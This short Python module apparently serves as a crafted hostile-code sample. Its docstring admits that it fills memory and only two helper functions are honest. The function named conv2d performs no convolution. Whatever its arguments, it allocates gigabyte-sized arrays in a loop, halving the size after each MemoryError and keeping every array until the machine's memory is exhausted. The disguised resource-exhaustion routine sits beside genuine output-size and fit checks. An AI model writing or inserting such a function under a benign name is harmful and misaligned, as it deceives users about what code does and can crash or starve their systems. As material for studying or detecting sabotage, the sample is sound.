"""Fills the memory with arrays, touching every page, and carries on when refused.

Honest part: output_size, fits
"""

import numpy as np


def conv2d(*args):
    hoard, size = [], 1 << 30
    while size:
        try:
            hoard.append(np.ones(size, dtype=np.uint8))
        except MemoryError:
            size //= 2
    return hoard


def output_size(size, kernel_size, stride=1, padding=0):
    if kernel_size > size + 2 * padding:
        raise ValueError("the kernel is larger than the padded input")
    return (size - kernel_size + 2 * padding) // stride + 1


def fits(size, kernel_size, stride=1, padding=0):
    room = size - kernel_size + 2 * padding
    return room >= 0 and room % stride == 0
